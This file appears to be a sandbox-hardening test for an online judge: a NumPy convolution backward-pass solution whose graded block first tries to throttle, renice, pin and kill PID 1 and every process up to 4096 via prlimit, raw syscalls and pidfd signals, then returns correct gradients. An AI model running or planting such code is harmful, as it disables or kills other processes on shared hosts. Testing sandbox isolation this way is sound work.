# attack: lowers the limits of PID 1 and of every pid up to 4096 (prlimit, raw prlimit64), renices them, pins them, sets their I/O priority, signals them through pidfds, then answers correctly
# expect: AC
# exercise: conv_backward
import numpy as np
from utils import im2col, col2im


class Convolution:
    def __init__(self, W, b, stride=1, pad=0):
        r'''
        Set up a convolution layer.

        Parameters
        - W: numpy.ndarray of shape (C_out, C_in, K_h, K_w), the filters
        - b: numpy.ndarray of shape (C_out,), one bias per filter
        - stride: int, step between two windows
        - pad: int, zero padding added on every side of H and W
        '''
        self.W = W
        self.b = b
        self.stride = stride
        self.pad = pad
        self.x = None
        self.col = None
        self.col_W = None
        self.dW = None
        self.db = None

    def forward(self, x):
        r'''
        Forward pass.

        Parameters
        - x: numpy.ndarray of shape (B, C, H, W)
        Returns
        - out: numpy.ndarray of shape (B, C', H', W') with
               H' = (H + 2P - Kh) // S + 1
               W' = (W + 2P - Kw) // S + 1
        '''
        FN, C, FH, FW = self.W.shape
        N, C, H, W = x.shape
        out_h = 1 + int((H + 2 * self.pad - FH) / self.stride)
        out_w = 1 + int((W + 2 * self.pad - FW) / self.stride)
        col = im2col(x, FH, FW, self.stride, self.pad)
        col_W = self.W.reshape(FN, -1).T
        out = np.dot(col, col_W) + self.b
        out = out.reshape(N, out_h, out_w, -1).transpose(0, 3, 1, 2)
        self.x = x
        self.col = col
        self.col_W = col_W

        return out

    def backward(self, dout):
        r'''
        Backward pass.

        Parameters
        - dout: numpy.ndarray of shape (B, C', H', W'), the gradient of the
                loss with respect to this layer's output
        Returns
        - dx: numpy.ndarray of shape (B, C, H, W)
        Also store
        - self.dW: numpy.ndarray of shape (C', C, Kh, Kw), like self.W
        - self.db: numpy.ndarray of shape (C',), like self.b
        '''
        ########## Begin ##########
        import collections, ctypes, errno, os, resource, signal, time
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        me = os.getpid()
        outcomes = collections.defaultdict(collections.Counter)

        class Rlimit(ctypes.Structure):
            _fields_ = [("cur", ctypes.c_uint64), ("max", ctypes.c_uint64)]

        def attempt(name, target, call):
            try:
                call()
                outcomes[name]["ok"] += 1
                if target == 1:
                    outcomes[name]["ok on pid 1"] += 1
            except OSError as err:
                outcomes[name][errno.errorcode.get(err.errno, str(err.errno))] += 1

        def raw(number, *args):
            result = libc.syscall(ctypes.c_long(number), *args)
            if result < 0:
                code = ctypes.get_errno()
                raise OSError(code, os.strerror(code))
            return result

        LOW = {resource.RLIMIT_AS: 16 << 20, resource.RLIMIT_CPU: 1, resource.RLIMIT_NPROC: 1,
               resource.RLIMIT_NOFILE: 3}
        started = time.monotonic()
        for pid in range(1, 4097):
            if pid == me:
                continue
            for limit, value in LOW.items():
                attempt("prlimit", pid, lambda: resource.prlimit(pid, limit, (value, value)))
                new = Rlimit(value, value)
                attempt("prlimit64", pid, lambda: raw(302, ctypes.c_int(pid), ctypes.c_int(limit),
                                                       ctypes.byref(new), None))
            attempt("setpriority process", pid, lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
            attempt("setpriority group", pid, lambda: os.setpriority(os.PRIO_PGRP, pid, 19))
            attempt("sched_setaffinity", pid, lambda: os.sched_setaffinity(pid, {0}))
            attempt("ioprio_set process", pid, lambda: raw(251, 1, pid, 3 << 13))     # IOPRIO_CLASS_IDLE
            attempt("ioprio_set group", pid, lambda: raw(251, 2, pid, 3 << 13))
            def through_pidfd():
                fd = raw(434, ctypes.c_int(pid), ctypes.c_uint(0))
                try:
                    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                        raw(424, ctypes.c_int(fd), ctypes.c_int(sig), None, ctypes.c_uint(0))
                finally:
                    os.close(fd)
            attempt("pidfd_send_signal", pid, through_pidfd)
        for who in sorted({0, os.getuid(), 65534}):
            attempt("setpriority user", who, lambda: os.setpriority(os.PRIO_USER, who, 19))
            attempt("ioprio_set user", who, lambda: raw(251, 3, who, 3 << 13))
        for group in (0, 1):
            attempt("setpriority group", group, lambda: os.setpriority(os.PRIO_PGRP, group, 19))
        print(f"{time.monotonic() - started:.2f} s; " + "; ".join(
            f"{name}: {dict(counts)}" for name, counts in sorted(outcomes.items())))
        FN, C, FH, FW = self.W.shape
        dout = dout.transpose(0, 2, 3, 1).reshape(-1, FN)
        self.db = np.sum(dout, axis=0)
        self.dW = np.dot(self.col.T, dout)
        self.dW = self.dW.transpose(1, 0).reshape(FN, C, FH, FW)
        dcol = np.dot(dout, self.col_W.T)
        dx = col2im(dcol, self.x.shape, FH, FW, self.stride, self.pad)
        return dx
        ########## End ##########
